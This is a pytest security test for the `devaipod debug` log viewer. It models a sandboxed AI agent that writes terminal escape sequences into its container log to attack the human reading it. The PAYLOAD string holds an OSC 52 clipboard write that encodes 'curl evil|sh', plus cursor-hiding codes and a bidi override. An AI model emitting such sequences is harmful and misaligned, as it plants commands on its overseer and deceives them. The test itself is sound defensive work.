"""`devaipod debug` shows the last lines of each container's log: the agent's among them.

The agent runs as the same user as its container's main process, so it can write
anything into its container's log (through /proc/1/fd/1); the human reads that log's tail
with `devaipod debug` on their terminal.
"""

from __future__ import annotations

import json

import pytest

from podfixtures import run_devaipod

pytestmark = pytest.mark.podman

# OSC 52 (write the clipboard), erase the line and move up, a bidi override
PAYLOAD = r"\033]52;c;Y3VybCBldmlsfHNo\007\033[2K\033[1Adone\342\200\256hs.txt"


def test_the_agents_log_cannot_drive_the_users_terminal(hostile_pod):
    """Attack: the agent writes terminal control sequences (OSC 52, cursor moves, a bidi
    override) and a fake "secrets" line into its container's log, for the human who runs
    `devaipod debug` to read."""
    pod = hostile_pod()
    short = pod.name.removeprefix("devaipod-")
    pod.agent(f"printf '{PAYLOAD}\\n' > /proc/1/fd/1")
    rc, text, err = run_devaipod("debug", short)
    assert rc == 0, err
    assert "\\x1b]52" in text  # the line is shown, escaped
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, text
    rc, raw, err = run_devaipod("debug", short, "--json")
    assert rc == 0, err
    assert "\x1b" not in raw and "\u202e" not in raw
    data = json.loads(raw)
    agent = next(c for c in data["containers"] if c["role"] == "agent")
    assert any("\\x1b]52" in line for line in agent["log"])
